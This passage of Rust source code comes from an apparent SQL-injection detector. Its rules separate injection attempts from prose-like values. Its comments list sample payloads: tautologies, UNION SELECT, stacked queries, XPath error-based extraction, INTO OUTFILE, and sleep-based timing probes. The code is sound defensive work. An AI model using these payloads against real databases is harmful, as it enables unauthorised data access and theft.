                        && matches!(self.word(eq), b"=" | b":=")
                        && self.k(self.sig(eq + 2)) == Some(K::Semi)
                }
                b"prepare" => {
                    let from = self.sig(n + 1);
                    self.k(n) == Some(K::Word)
                        && self.k(from) == Some(K::Kw(Kw::From))
                        && matches!(self.k(self.sig(from + 1)), Some(K::Var | K::Str { .. }))
                }
                _ => false,
            },
            _ => false,
        }
    }

    /// A statement's object named at `i` (after `IF [NOT] EXISTS`), then the end of the
    /// statement, a symbol, a SQL keyword or one of the `tails` words, as in
    /// `DROP TABLE users;`: "drop table cloth off at the cleaners" names no object. A value
    /// cut before the name (`;insert into`) is the statement too.
    fn object_at(&self, i: usize, tails: &[&[u8]]) -> bool {
        let mut n = self.sig(i);
        while matches!(self.word(n), b"if" | b"not" | b"exists") {
            n = self.sig(n + 1);
        }
        match self.k(n) {
            None => return true,
            Some(K::Word | K::Str { .. } | K::Kw(_) | K::Var) => {}
            _ => return false,
        }
        // Anything but a plain word or number: a keyword, a symbol, a quote, a variable.
        let tail = self.sig(n + 1);
        !matches!(self.k(tail), Some(K::Word | K::Num)) || tails.contains(&self.word(tail))
    }

    /// A value that is only a DDL verb, what it acts on and at most a plain name, with nothing
    /// after (`Drop Table`, `Create user account`, `Create Index Page`): a button, a task or a
    /// flow's title. SQL goes on: a `;`, a comment, a column list, `IF EXISTS`, a quoted name.
    /// (Stacked after a break or a `;`, the same words stay a statement.)
    fn label(&self, first: usize) -> bool {
        if !matches!(
            self.word(first),
            b"drop" | b"create" | b"alter" | b"truncate"
        ) {
            return false;
        }
        let name = self.sig(first + 1) + 1;
        match self.k(name) {
            None => true,
            Some(K::Word) => self.k(name + 1).is_none(),
            _ => false,
        }
    }

    /// A value that is nothing but a plain SELECT, with no break, sub-select or stacked query
    /// around it, reads as quoted SQL (`select 'and'`, `select x from y where`): one literal
    /// alone, or one named column from one table with no condition. A literal selected from a
    /// table (`select 1 from dual`) stays a probe.
    fn quoted_select(&self, i: usize) -> bool {
        if self.paranoia >= 2 || self.k(i) != Some(K::Kw(Kw::Select)) {
            return false;
        }
        let item = self.sig(i + 1);
        let after = self.sig(item + 1);
        match self.k(item) {
            // A hex literal is an encoded string, a hallmark of obfuscation (`select 0x6162`).
            Some(K::Num) if self.word(item).starts_with(b"0x") => false,
            Some(K::Num | K::Str { .. } | K::Kw(Kw::Value)) => self.k(after).is_none(),
            Some(K::Word | K::Kw(Kw::Func)) if self.k(after) == Some(K::Kw(Kw::From)) => {
                let table = self.sig(after + 1);
                let tail = self.sig(table + 1);
                self.k(table) == Some(K::Word)
                    && !system_table(self.word(table))
                    && (self.k(tail).is_none()
                        || (self.k(tail) == Some(K::Kw(Kw::Where))
                            && self.k(self.sig(tail + 1)).is_none()))
            }
            _ => false,
        }
    }

    /// `UNION [ALL|DISTINCT] [(] SELECT` at `i`: the index of `SELECT`.
    fn union_select(&self, i: usize) -> Option<usize> {
        let mut j = self.sig(i + 1);
        while self.k(j) == Some(K::LParen)
            || matches!(self.word(j), b"all" | b"distinct" | b"distinctrow")
        {
            j = self.sig(j + 1);
        }
        (self.k(j) == Some(K::Kw(Kw::Select))).then_some(j)
    }

    /// Whether the operator at `i` compares (rather than computes).
    fn comparison(&self, i: usize) -> bool {
        self.k(i) == Some(K::Op)
            && self
                .word(i)
                .iter()
                .any(|c| matches!(c, b'=' | b'<' | b'>' | b'!' | b'?') || c.is_ascii_alphabetic())
            && !matches!(self.word(i), b"div" | b"mod" | b"collate" | b"escape")
    }

    /// An arithmetic value expression at `i` (literals, identifiers, calls, parentheses,
    /// unary and binary arithmetic, comma lists): where it ends and what it holds.
    fn value_expr(&self, i: usize) -> Option<Expr> {
        let mut j = self.sig(i);
        let mut e = Expr::default();
        loop {
            while self.k(j) == Some(K::Op) && matches!(self.word(j), b"-" | b"+" | b"~" | b"!") {
                j = self.sig(j + 1);
            }
            match self.k(j) {
                Some(K::LParen) => {
                    let close = self.matching(j);
                    e.call |= self.sql_inside(j, close);
                    e.literals += 1;
                    j = close + 1;
                }
                _ if self.is_call(j) => {
                    let open = self.sig(j + 1);
                    let close = self.matching(open);
                    // `f(x)` of an unknown `f` is as common in prose and code as in SQL: it
                    // counts as SQL only for SQL functions or with SQL inside.
                    let sql = self.k(j) != Some(K::Word)
                        || self.paranoia >= 2
                        || self.sql_inside(open, close);
                    if sql {
                        e.call = true;
                    } else {
                        e.words += 1;
                    }
                    j = close + 1;
                }
                Some(K::Num | K::Str { .. } | K::Var | K::Kw(Kw::Value)) => {
                    e.literals += 1;
                    j += 1;
                }
                Some(K::Word | K::Kw(Kw::Func)) => {
                    e.words += 1;
                    j += 1;
                }
                _ => break,
            }
            let n = self.sig(j);
            let arith = self.k(n) == Some(K::Op) && !self.comparison(n)
                || matches!(self.word(n), b"div" | b"mod");
            if arith || self.k(n) == Some(K::Comma) {
                j = n + 1;
                continue;
            }
            break;
        }
        (e.literals + e.words > 0 || e.call).then_some(Expr { end: j, ..e })
    }

    /// Whether the tokens `from..to` hold SQL: a sub-select, a SQL function or object, a
    /// `CASE WHEN`.
    fn sql_inside(&self, from: usize, to: usize) -> bool {
        (from..to.min(self.t.len())).any(|k| {
            matches!(
                self.t[k].k,
                K::Kw(Kw::Select | Kw::Func | Kw::TimeFunc | Kw::Danger)
            ) || (self.word(k) == b"case" && self.word(self.sig(k + 1)) == b"when")
        })
    }

    /// Where the right operand of the comparison at `op` starts: after `IS [NOT]`,
    /// `SOUNDS LIKE`.
    fn operand(&self, op: usize) -> usize {
        let n = self.sig(op + 1);
        match (self.word(op), self.word(n)) {
            (b"is", b"not") | (b"sounds", b"like") => n + 1,
            _ => op + 1,
        }
    }

    /// `CASE WHEN` and a comparison at `i`, maybe in parentheses: the conditional of boolean
    /// and error probes.
    fn case_when(&self, i: usize) -> bool {
        let mut when = self.sig(i + 1);
        if self.word(i) != b"case" || self.word(when) != b"when" {
            return false;
        }
        loop {
            let compared = self
                .value_expr(when + 1)
                .is_some_and(|v| self.comparison(self.sig(v.end)));
            if compared || self.k(self.sig(when + 1)) != Some(K::LParen) {
                return compared;
            }
            when = self.sig(when + 1);
        }
    }

    /// MySQL's XPath functions called with an XPath that a call computes
    /// (`EXTRACTVALUE(0,CONCAT(0x7e,…))`, `UPDATEXML(1,CONCAT_WS(…),1)`): error-based
    /// extraction, the error message carrying the computed text. An application passes a
    /// written path (`EXTRACTVALUE(doc,'/a/b')`).
    fn error_xpath(&self, f: usize, open: usize, computed: impl Fn(usize) -> bool) -> bool {
        if !matches!(self.word(f), b"extractvalue" | b"updatexml") {
            return false;
        }
        // The first argument is a document or a constant: a few tokens (a bound, so that a
        // value of many unclosed calls costs linear time).
        let mut depth = 0usize;
        for a in open + 1..self.t.len().min(open + 32) {
            match self.t[a].k {
                K::LParen => depth += 1,
                K::RParen if depth == 0 => return false,
                K::RParen => depth -= 1,
                K::Comma if depth == 0 && computed(self.sig(a + 1)) => return true,
                _ => {}
            }
        }
        false
    }

    /// The index of the parenthesis closing the one at `open` (or the end).
    fn matching(&self, open: usize) -> usize {
        let mut depth = 0usize;
        for (k, t) in self.t.iter().enumerate().skip(open) {
            match t.k {
                K::LParen => depth += 1,
                K::RParen => {
                    depth = depth.saturating_sub(1);
                    if depth == 0 {
                        return k;
                    }
                }
                _ => {}
            }
        }
        self.t.len()
    }

    /// A boolean expression that is SQL rather than prose: a comparison of values, a call, a
    /// sub-select, a literal followed by a comment or a clause.
    fn condition_at(&self, i: usize) -> bool {
        // A loop, not recursion: literals or-ed on (`1 OR (1 OR 1)--`) are attacker-sized.
        let mut from = i;
        loop {
            let mut i = self.sig(from);
            if matches!(self.word(i), b"not" | b"!") {
                i = self.sig(i + 1);
            }
            let mut p = i;
            while self.k(p) == Some(K::LParen) {
                p = self.sig(p + 1);
            }
            if matches!(
                self.k(p),
                Some(K::Kw(Kw::Select | Kw::Exists | Kw::TimeFunc))
            ) || self.case_when(p)
            {
                return true;
            }
            let Some(lhs) = self.value_expr(p) else {
                return false;
            };
            let mut n = self.sig(lhs.end);
            while self.k(n) == Some(K::RParen) {
                n = self.sig(n + 1);
            }
            // `x NOT LIKE y`, `x NOT IN (…)`.
            if self.word(n) == b"not" && self.comparison(self.sig(n + 1)) {
                n = self.sig(n + 1);
            }
            if self.comparison(n) {
                let Some(rhs) = self.value_expr(self.operand(n)) else {
                    return false;
                };
                // `a=b` between two bare words is prose-like unless nothing follows it.
                let prose = lhs.literals == 0 && !lhs.call && rhs.literals == 0 && !rhs.call;
                let after = self.sig(rhs.end);
                let end = self.end_or_comment(after);
                // A word operator reads as English (`5 and 10 like minds`) unless it compares
                // with a literal and the condition ends there.
                if self.word(n).iter().all(u8::is_ascii_alphabetic) {
                    return if rhs.literals > 0 || rhs.call {
                        end || matches!(
                            self.k(after),
                            Some(K::Logic | K::Op | K::RParen | K::Kw(Kw::Clause | Kw::Union))
                        )
                    } else {
                        prose && end
                    };
                }
                return !prose || end;
            }
            if lhs.call {
                return true;
            }
            let literal = lhs.literals > 0 && lhs.words == 0;
            // `1 OR (1 OR 1)--`: the last of the literals or-ed on decides.
            if literal && self.k(n) == Some(K::Logic) {
                from = n + 1;
                continue;
            }
            // `OR true`, `AND false` alone are boolean probes; `1 or 2` is a choice.
            let truth = matches!(self.word(p), b"true" | b"false") && lhs.end == p + 1;
            // (`n` is past any comment: the cut is read where it stands.)
            return literal
                && (matches!(self.k(n), Some(K::Semi | K::Kw(Kw::Clause | Kw::Union)))
                    || self.cutting_comment(self.past_closing(lhs.end))
                    || ((truth || self.paranoia >= 2) && self.k(n).is_none()));
        }
    }

    /// A comparison of a literal with a literal or a call at `i` (`1=1`, `'a'='a'`), or a
    /// sub-select: a condition no application writes, unlike `y = 6`.
    fn literal_condition(&self, i: usize) -> bool {
        let c = self.sig(i);
        self.value_expr(c).is_some_and(|r| {
            let op = self.sig(r.end);
            r.literals > 0 && self.comparison(op) && {
                let rhs = self.value_expr(self.operand(op));
                rhs.is_some_and(|x| x.literals > 0 || x.call)
            }
        }) || self.k(c) == Some(K::Kw(Kw::Select))
    }

    /// What follows a break-out of a string (or of a parenthesis) at `i` makes it SQL.
    fn after_break(&self, i: usize) -> Option<(&'static str, usize)> {
        let mut j = i;
        // A full-text search's modifier closing `MATCH (…) AGAINST ('…` (`' IN BOOLEAN MODE)`,
        // `' IN NATURAL LANGUAGE MODE)`): the break's way out of the call.
        if self.word(j) == b"in" {
            let mode = (j + 2..j + 4).find(|&m| self.word(m) == b"mode");
            if let Some(m) = mode.filter(|&m| self.k(m + 1) == Some(K::RParen)) {
                j = m + 1;
            }
        }
        while self.k(j) == Some(K::RParen) {
            j += 1;
        }
        let closed = j > i;
        if closed {
            j = self.derived_alias(j);
        }
        let span = |rule, e: usize| Some((rule, self.t.get(e).map_or(self.b.len(), |t| t.e)));
        // A quote after a space and before a word opens a quoted phrase in prose
        // (`use "=" here`, `the "SELECT" menu`): only a comment, a stacked statement or a
        // UNION make that a break.
        let quote = self.t[0].e.saturating_sub(1);
        let opening = self.paranoia < 2
            && quote > 0
            && self.b[quote - 1].is_ascii_whitespace()
            && self
                .b
                .get(quote + 1)
                .is_some_and(|c| !c.is_ascii_whitespace());
        if opening && !matches!(self.k(j)?, K::Comment | K::Semi | K::Kw(Kw::Union)) {
            return None;
        }
        // A value that opens with a quoted operator word and goes on as prose is a label
        // (`"LIKE" button`, `'IN' tray`), not `'' LIKE '…'`.
        if self.paranoia < 2 && quote == 0 && self.k(j) == Some(K::Op) {
            let w = self.t[j];
            let labelled = self.b[w.s].is_ascii_alphabetic()
                && self.b.get(w.e) == Some(&self.b[0])
                && self.b.get(w.e + 1).is_some_and(u8::is_ascii_whitespace);
            if labelled {
                return None;
            }
        }
        let attached = quote > 0 && !self.b[quote - 1].is_ascii_whitespace();
        match self.k(j)? {
            K::Comment => {
                let w = self.word(j);
                // A MySQL `#` comment cuts the query; words after it on the same line are the
                // prose of an inch mark or a number sign (`7" #2 needle`), unless SQL follows
                // on the next line.
                let cuts = self.paranoia >= 2
                    || j + 1 < self.t.len()
                    || !w[1..].iter().any(u8::is_ascii_alphanumeric);
                (w.starts_with(b"--")
                    || w.starts_with(b"/*")
                    || (w.starts_with(b"#") && (attached || quote == 0) && cuts))
                    .then(|| span("sqli.string_break", j))?
            }
            K::Logic if self.condition_at(j + 1) => span("sqli.string_break", j + 1),
            // `1'or'1`, `x' or 'a`, `admin' or '`: a boolean operator and a word (or nothing)
            // left in an open quote for the application to close (`'x' or 'a'`).
            K::Logic if (attached || quote == 0) && self.open_word(j + 1) => {
                span("sqli.string_break", j + 1)
            }
            // `'or'1=1`, `admin'or'a=a`: a comparison left in the open quote, a string the
            // database reads as true once the application closes it (`'x' or '1=1'`).
            K::Logic if (attached || quote == 0) && self.open_comparison(j + 1) => {
                span("sqli.string_break", j + 1)
            }
            // `1' and starts_with(password,'t') and 'true`: a call between boolean operators,
            // the last operand left in an open quote for the application to close.
            K::Logic if (attached || quote == 0) && self.call_then_open_word(j + 1) => {
                span("sqli.string_break", j + 1)
            }
            // `x' or 5>`, `' and id<`: an operand and an operator that the application's own
            // closing quote completes (`5>'…'`), a truncated probe.
            K::Logic if (attached || quote == 0) && self.dangling(j + 1) => {
                span("sqli.string_break", j + 1)
            }
            // `' or anything --`, `1' and f(x,'y')#`: a break, a boolean operator and a
            // comment eating the rest. Strings only as call arguments: `5' or 6' -- ok` is
            // feet and inches.
            K::Logic
                if self.t[j + 1..].iter().enumerate().all(|(o, t)| match t.k {
                    K::Str { closed: true } => {
                        matches!(self.k(j + o), Some(K::LParen | K::Comma))
                    }
                    K::Str { closed: false } => false,
                    _ => true,
                }) && self.t.last().is_some_and(|t| {
                    t.k == K::Comment
                        && (!self.b[t.s..].starts_with(b"#")
                            || (attached
                                && !self.b[t.s..t.e].iter().any(u8::is_ascii_alphanumeric)))
                }) =>
            {
                span("sqli.string_break", j + 1)
            }
            // `'-'`, `'||'`, `' or ''*'`, `'||f(x)||'`: the break is rejoined by the
            // application's own closing quote, with only SQL operators between. A quote after
            // a digit is a foot or inch mark (`12"-14"`), not a break.
            K::Logic | K::Op
                if (quote == 0 || (attached && !self.b[quote - 1].is_ascii_digit()))
                    && self.rejoins(j) =>
            {
                span("sqli.string_break", j)
            }
            K::LParen if self.statement_at(j, false) => span("sqli.string_break", j + 1),
            K::Op => {
                let n = self.sig(j + 1);
                let rhs = self.value_expr(self.operand(j));
                // An operator and an operand with a comment cutting the rest: `x'-name--`,
                // `x' div id#`, `x' collate nocase--`.
                let cut = |r: &Expr| r.end + 1 == self.t.len() && self.cutting_comment(r.end);
                let ok = if self.comparison(j) {
                    rhs.is_some_and(|r| {
                        r.literals > 0 || r.call || self.end_or_comment(self.sig(r.end))
                    })
                } else {
                    rhs.is_some_and(|r| r.call || (attached && cut(&r)))
                };
                ok.then(|| span("sqli.string_break", n))?
            }
            // `1',IIF(1=2,1,1/0)--`: a conditional probe in the application's list.
            K::Comma | K::Semi if self.probed_condition(self.sig(j + 1)).is_some() => {
                span("sqli.string_break", self.sig(j + 1))
            }
            K::Semi => {
                let n = self.sig(j + 1);
                // `admin';`: the string and the statement ended where the value does (not
                // `HAT 18';`, a size in feet).
                let ended =
                    attached && j + 1 == self.t.len() && !self.b[quote - 1].is_ascii_digit();
                (self.statement_at(n, false)
                    || self.schema_statement(n, false)
                    || matches!(self.k(j + 1), Some(K::Comment))
                    || ended)
                    .then(|| span("sqli.stacked_query", n))?
            }
            K::Kw(Kw::Union) => self
                .union_select(j)
                .and_then(|e| span("sqli.union_select", e)),
            K::Kw(Kw::Select | Kw::Stmt | Kw::TimeFunc) if self.statement_at(j, false) => {
                span("sqli.string_break", j + 1)
            }
            K::Kw(Kw::Clause | Kw::Where | Kw::Into) if self.clause_at(j) => {
                span("sqli.clause", j + 1)
            }
            // `x') AS y FROM users--`: out of the string and its parenthesis, a column of the
            // select list aliased.
            K::Word if closed => self
                .aliased_from(j)
                .and_then(|from| span("sqli.clause", from + 1)),
            _ => None,
        }
    }

    /// From `i` to the end: a call with arguments, a boolean operator and a word in a quote
    /// left open (`f(x,'y') and 'true`).
    fn call_then_open_word(&self, i: usize) -> bool {
        let call = self.sig(i);
        let open = self.sig(call + 1);
        if !self.is_call(call) || self.k(self.sig(open + 1)) == Some(K::RParen) {
            return false;
        }
        let logic = self.sig(self.matching(open) + 1);
        self.k(logic) == Some(K::Logic) && self.open_word(logic + 1)
    }

    /// The value's last token, at `i`: a quote left open on a word or nothing (`'a`, `'`),
    /// for the application's closing quote to complete.
    fn open_word(&self, i: usize) -> bool {
        i + 1 == self.t.len()
            && self.k(i) == Some(K::Str { closed: false })
            && self.b[self.t[i].s + 1..self.t[i].e]
                .iter()
                .all(u8::is_ascii_alphanumeric)
    }

    /// The value's last token, at `i`: a quote left open on a comparison of two words or
    /// numbers and nothing else (`'1=1`, `'a<>b`).
    fn open_comparison(&self, i: usize) -> bool {
        if i + 1 != self.t.len() || self.k(i) != Some(K::Str { closed: false }) {
            return false;
        }
        let c = &self.b[self.t[i].s + 1..self.t[i].e];
        let op = |b: &u8| matches!(b, b'=' | b'<' | b'>' | b'!');
        let Some(s) = c.iter().position(op) else {
            return false;
        };
        let e = s + c[s..].iter().take_while(|b| op(b)).count();
        (1..=2).contains(&(e - s))
            && s > 0
            && e < c.len()
            && c[..s].iter().chain(&c[e..]).all(u8::is_ascii_alphanumeric)
    }

    /// From `i` to the end: an operand and a symbolic operator that nothing follows: `5>`,
    /// `'a'<`, `id=`; an arithmetic one after literals only (`5-`, not `Tom-`).
    fn dangling(&self, i: usize) -> bool {
        let Some(last) = self.t.len().checked_sub(1) else {
            return false;
        };
        let op = self.t[last];
        op.k == K::Op
            && self.b[op.s..op.e].iter().all(u8::is_ascii_punctuation)
            && last > self.sig(i)
            && self.value_expr(i).is_some_and(|e| {
                e.end >= last && (self.comparison(last) || (e.literals > 0 && e.words == 0))
            })
    }

    /// From the operator at `j` to the end: nothing but symbolic operators and literals (at
    /// least one operator not a word), or a concatenation `|| expr ||`, then a lone quote left
    /// open, the one the application closes.
    fn rejoins(&self, j: usize) -> bool {
        let Some(last) = self.t.len().checked_sub(1) else {
            return false;
        };
        let closing = self.t[last];
        if closing.k != (K::Str { closed: false }) || last <= j {
            return false;
        }
        if self.rejoined_expression(j, last) {
            return true;
        }
        if closing.e - closing.s != 1 {
            return false;
        }
        let symbolic = |t: &Tok| self.b[t.s..t.e].iter().all(|c| c.is_ascii_punctuation());
        let mut operators = 0;
        let plain = self.t[j..last].iter().all(|t| match t.k {
            K::Op | K::Logic => {
                operators += usize::from(symbolic(t));
                symbolic(t) || matches!(&self.b[t.s..t.e], b"or" | b"and")
            }
            K::Str { closed: true } | K::Num | K::Kw(Kw::Value) | K::Comment => true,
            _ => false,
        });
        // Between double quotes, a sign alone is a quoted symbol or a measure (`"-"`, `"*"`);
        // a boolean operator (`"-||0"`, `" or ""-"`) makes it SQL.
        let boolean = self.t[j..last].iter().any(|t| t.k == K::Logic);
        if plain && operators > 0 && (boolean || self.b[closing.s] == b'\'') {
            return true;
        }
        let concat = self.word(j);
        if !matches!(concat, b"||" | b"+") {
            return false;
        }
        // Arithmetic `+` runs on to the closing quote; `||` ends the expression.
        self.value_expr(j + 1).is_some_and(|e| {
            let op = self.sig(e.end);
            if concat == b"+" {
                e.end > last && e.call
            } else {
                self.word(op) == concat && self.sig(op + 1) == last
            }
        })
    }

    /// `aa'&0+1='aa`, `1' * id - '0`, `4' MOD 2 like '0`: from the operator at `j` to the
    /// quote left open at `last`, operators and operands in turn (the broken string the first
    /// operand, a word in the open quote the last), with a symbolic operator or a literal
    /// among them: "Rock' and roll and 'more" alternates too, with words only.
    fn rejoined_expression(&self, j: usize, last: usize) -> bool {
        let closing = self.t[last];
        if !self.open_word(last) || self.b[closing.s] != b'\'' || closing.e - closing.s > 17 {
            return false;
        }
        let mut sql = false;
        let mut i = j;
        loop {
            // An operator (`NOT LIKE`, `IS NOT`, `SOUNDS LIKE` as one).
            let op = self.word(i);
            if !matches!(self.k(i), Some(K::Op | K::Logic))
                || op == b"not" && !self.comparison(self.sig(i + 1))
            {
                return false;
            }
            sql |= op.iter().all(u8::is_ascii_punctuation);
            if op == b"not" {
                i = self.sig(i + 1);
            }
            i = self.sig(self.operand(i));
            // Unary operators, then an operand.
            while matches!(self.word(i), b"-" | b"+" | b"!" | b"~" | b"not") {
                i = self.sig(i + 1);
            }
            if i == last {
                return sql;
            }
            i = match self.k(i) {
                Some(K::Num | K::Var | K::Kw(Kw::Value)) => {
                    sql = true;
                    i + 1
                }
                _ if self.is_call(i) => self.matching(self.sig(i + 1)) + 1,
                Some(K::LParen) => {
                    sql = true;
                    self.matching(i) + 1
                }
                Some(K::Str { closed: true } | K::Word | K::Kw(Kw::Func)) => i + 1,
                _ => return false,
            };
            i = self.sig(i);
            if i >= last {
                return false;
            }
        }
    }

    /// T-SQL's `IF (…) SELECT …` at `i`, its condition a short comparison: the statement the
    /// condition picks. (A bounded look, so that a value of `;IF(;IF(…` stays linear.)
    fn if_statement(&self, i: usize) -> Option<usize> {
        if self.word(i) != b"if" || !self.is_call(i) {
            return None;
        }
        let open = self.sig(i + 1);
        let mut depth = 0usize;
        let mut compares = false;
        let close = (open..self.t.len().min(open + 24)).find(|&k| {
            match self.t[k].k {
                K::LParen => depth += 1,
                K::RParen => depth = depth.saturating_sub(1),
                K::Op => compares |= self.comparison(k),
                _ => {}
            }
            depth == 0
        })?;
        let then = self.sig(close + 1);
        (compares && matches!(self.k(then), Some(K::Kw(Kw::Select | Kw::Stmt)))).then_some(then)
    }

    /// `AS alias FROM t` at `i`, a column of a select list aliased: the index of `FROM`.
    fn aliased_from(&self, i: usize) -> Option<usize> {
        let alias = self.sig(i + 1);
        let from = self.sig(alias + 1);
        (self.word(i) == b"as"
            && matches!(self.k(alias), Some(K::Str { .. } | K::Word))
            && self.k(from) == Some(K::Kw(Kw::From))
            && self.k(self.sig(from + 1)).is_some())
        .then_some(from)
    }

    /// Past a derived table's alias after a closing parenthesis (`1) AS x WHERE 1=1`, as
    /// sqlmap closes a sub-select): the clause that follows the alias, else `i`.
    fn derived_alias(&self, i: usize) -> usize {
        let alias = self.sig(i + 1);
        let next = self.sig(alias + 1);
        let clause = matches!(self.k(next), Some(K::Kw(Kw::Clause | Kw::Where)));
        if self.word(i) == b"as" && self.k(alias) == Some(K::Word) && clause {
            next
        } else {
            i
        }
    }

    /// `ORDER BY 3`, `GROUP BY x`, `HAVING 1=1`, `LIMIT 1`, `PROCEDURE ANALYSE`,
    /// `INTO OUTFILE`, `WHERE 1=1` after a value.
    fn clause_at(&self, i: usize) -> bool {
        let n = self.sig(i + 1);
        match self.word(i) {
            b"order" | b"group" => {
                self.k(n) == Some(K::Kw(Kw::By))
                    && matches!(
                        self.k(self.sig(n + 1)),
                        Some(K::Num | K::Word | K::Kw(_) | K::LParen)
                    )
            }
            b"having" | b"where" => self.condition_at(n),
            b"limit" | b"offset" => self.k(n) == Some(K::Num),
            b"procedure" => self.word(n).starts_with(b"analyse"),
            b"into" => {
                matches!(self.word(n), b"outfile" | b"dumpfile") || self.k(n) == Some(K::Var)
            }
            _ => false,
        }
    }

    /// A clause opening the value, stricter than after a value since nothing precedes it:
    /// `WHERE`/`HAVING` and a SQL condition, `ORDER`/`GROUP BY` and column numbers or SQL
    /// calls up to the end or a comment (not "order by 5 pm"), `AS alias WHERE …`. The index
    /// after what was read.
    fn leading_clause(&self, i: usize) -> Option<usize> {
        let mut i = i;
        if self.word(i) == b"as" && matches!(self.k(self.sig(i + 1)), Some(K::Word | K::Str { .. }))
        {
            i = self.sig(self.sig(i + 1) + 1);
        }
        let n = self.sig(i + 1);
        match self.word(i) {
            b"where" | b"having" => self.condition_at(n).then_some(n + 1),
            // `LIMIT 0,1--`, `LIMIT 1 OFFSET 2 UNION …`: a count, then a cut or more SQL.
            b"limit" if self.k(n) == Some(K::Num) => {
                let mut j = n + 1;
                let more = self.sig(j);
                if (self.k(more) == Some(K::Comma) || self.word(more) == b"offset")
                    && self.k(self.sig(more + 1)) == Some(K::Num)
                {
                    j = self.sig(more + 1) + 1;
                }
                // (A comment with words may be an English dash: "limit 3 -- per user".)
                (self.bare_cut(j)
                    || matches!(self.k(self.sig(j)), Some(K::Kw(Kw::Union | Kw::Clause))))
                .then_some(j)
            }
            b"order" | b"group" if self.k(n) == Some(K::Kw(Kw::By)) => {
                let mut j = self.sig(n + 1);
                loop {
                    let sql_call = self.is_call(j)
                        && matches!(self.k(j), Some(K::Kw(Kw::Func | Kw::TimeFunc | Kw::Danger)));
                    if self.k(j) == Some(K::Num) {
                        j = self.sig(j + 1);
                    } else if sql_call {
                        j = self.sig(self.matching(self.sig(j + 1)) + 1);
                    } else {
                        return None;
                    }
                    if self.k(j) != Some(K::Comma) {
                        break;
                    }
                    j = self.sig(j + 1);
                }
                (self.end_or_comment(j) || matches!(self.k(j), Some(K::Kw(Kw::Clause | Kw::Union))))
                    .then_some(j)
            }
            _ => None,
        }
    }

    /// A probe of the database rather than a complete injection: a value opening with a call
    /// of a SQL-only function, a `::` cast of a value to a SQL type, or a comment only MySQL
    /// reads as code (`/*!50000 …*/`) or as an optimizer hint (`/*+ …*/`).
    fn probe(&self) -> Option<(&'static str, usize, usize)> {
        let t = self.t;
        let mut first = self.sig(0);
        // What follows a `,` continues the application's list (`ORDER BY 1,IIF(…)`); what
        // follows a `;` is a statement of its own: either opens the value as well.
        if matches!(self.k(first), Some(K::Comma | K::Semi)) {
            first = self.sig(first + 1);
        }
        let adjacent = t.get(first).is_some_and(|w| self.b.get(w.e) == Some(&b'('));
        if self.is_call(first)
            && (SQL_FUNCTIONS.contains(&self.word(first))
                || (adjacent && SQL_CALLS.contains(&self.word(first)) && !self.equation(first)))
        {
            let open = self.sig(first + 1);
            return Some(("sqli.probe", t[first].s, t[open].e));
        }
        let mut p = first;
        while self.k(p) == Some(K::LParen) {
            p = self.sig(p + 1);
        }
        if self.case_when(p) {
            return Some(("sqli.probe", t[first].s, t[p].e));
        }
        // `(5831=5831)*1`: a number compared with itself in parentheses, inside arithmetic
        // or alone: a tautology standing in for a numeric value.
        if p > first && self.k(p) == Some(K::Num) {
            let op = self.sig(p + 1);
            let rhs = self.sig(op + 1);
            let close = self.sig(rhs + 1);
            let after = self.sig(close + 1);
            if self.word(op) == b"="
                && self.k(rhs) == Some(K::Num)
                && self.word(rhs) == self.word(p)
                && self.k(close) == Some(K::RParen)
                && (self.k(after).is_none() || self.k(after) == Some(K::Op))
            {
                return Some(("sqli.probe", t[first].s, t[close].e));
            }
        }
        // MySQL's `IF(1=1,…)`, `ELT(1=1,…)` opening the value: a condition being probed.
        if let Some(op) = self.probed_condition(first) {
            return Some(("sqli.probe", t[first].s, t[op].e));
        }
        for i in 1..t.len() {
            let cast = t[i].k == K::Comment
                && self.word(i).strip_prefix(b"::").is_some_and(|ty| {
                    SQL_TYPES.contains(&ty.split(|c| *c == b'[').next().unwrap_or(ty))
                });
            if cast && matches!(t[i - 1].k, K::Word | K::RParen | K::Str { .. }) {
                return Some(("sqli.probe", t[i - 1].s, t[i].e));
            }
        }
        for hint in [&b"/*!"[..], b"/*+"] {
            if let Some(at) = find(self.b, hint) {
                let next = self.b.get(at + 3).copied().unwrap_or(b' ');
                if next.is_ascii_alphanumeric() || next == b' ' {
                    return Some(("sqli.probe", at, at + 3));
                }
            }
        }
        None
    }

    /// `IF(1=1,…)`, `IIF(1=2,…)`, `ELT(1=1,…)` at `i`: a literal compared inside a
    /// conditional call, its `(` attached. The index of the comparison.
    fn probed_condition(&self, i: usize) -> Option<usize> {
        let attached = self
            .t
            .get(i)
            .is_some_and(|w| self.b.get(w.e) == Some(&b'('));
        if !attached || !matches!(self.word(i), b"if" | b"iif" | b"elt") {
            return None;
        }
        let lhs = self.sig(self.sig(i + 1) + 1);
        let op = self.sig(lhs + 1);
        (matches!(self.k(lhs), Some(K::Num | K::Str { .. })) && self.comparison(op)).then_some(op)
    }

    /// A call of a number at `i` that a number equals, and nothing more: `sin(30) = 0.5` is
    /// arithmetic.
    fn equation(&self, i: usize) -> bool {
        let arg = self.sig(self.sig(i + 1) + 1);
        let close = self.sig(arg + 1);
        let eq = self.sig(close + 1);
        let n = self.sig(eq + 1);
        self.k(arg) == Some(K::Num)
            && self.k(close) == Some(K::RParen)
            && self.word(eq) == b"="
            && self.k(n) == Some(K::Num)
            && self.k(self.sig(n + 1)).is_none()
    }

    fn run(&self, broke: bool) -> Option<(&'static str, usize, usize)> {
        let t = self.t;
        let first = self.sig(0);
        let at = |i: usize| t.get(i).map_or(self.b.len(), |x| x.s);
        if !broke {
            if let Some(hit) = self.probe() {
                return Some(hit);
            }
        }
        // Context-free structures anywhere.
        for i in 0..t.len() {
            match t[i].k {
                K::Kw(Kw::Union) => {
                    if let Some(e) = self.union_select(i) {
                        return Some(("sqli.union_select", t[i].s, t[e].e));
                    }
                }
                K::Semi => {
                    let mut n = self.sig(i + 1);
                    // A block opened first (`'; begin declare @v …`): T-SQL, PL/SQL.
                    if self.word(n) == b"begin" {
                        n = self.sig(n + 1);
                    }
                    if let Some(then) = self.if_statement(n) {
                        return Some(("sqli.stacked_query", t[i].s, at(then + 1)));
                    }
                    if let Some(op) = self.probed_condition(n) {
                        return Some(("sqli.stacked_query", t[i].s, t[op].e));
                    }
                    // `;CALL regexp_substring(…)`, `;CALL dbms_lock.sleep(5)`: a routine by
                    // a name prose does not write (not "; call Bob (the manager)").
                    let routine = self.sig(n + 1);
                    if self.word(n) == b"call"
                        && self.is_call(routine)
                        && (self.k(routine) != Some(K::Word)
                            || self.word(routine).iter().any(|c| matches!(c, b'_' | b'.')))
                    {
